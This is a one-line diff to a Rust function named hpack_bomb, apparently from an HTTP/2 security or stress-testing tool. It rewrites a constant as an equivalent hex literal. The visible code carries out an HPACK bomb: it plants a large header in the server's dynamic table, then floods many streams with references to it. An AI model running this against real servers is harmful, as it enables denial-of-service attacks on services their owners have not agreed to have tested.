@@ -144,7 +144,7 @@ pub(super) async fn hpack_bomb(target: &Target) -> Result<String> {
         let mut connection = open(target, &[(INITIAL_WINDOW, 0)]).await?;
         let first = [block(&fields("POST", "/bench")), indexed("x-bomb", &"a".repeat(3_800))].concat();
         connection.frame(kind::HEADERS, END_HEADERS, 1, &first).await?;
-        let newest = 0x80 | 62;
+        let newest = 0x80 | 0x3e;
         let bomb = [block(&fields("POST", "/bench")), vec![newest; REFERENCES]].concat();
         let (mut stream, mut opened) = (3, 0);
         while opened < 5_000
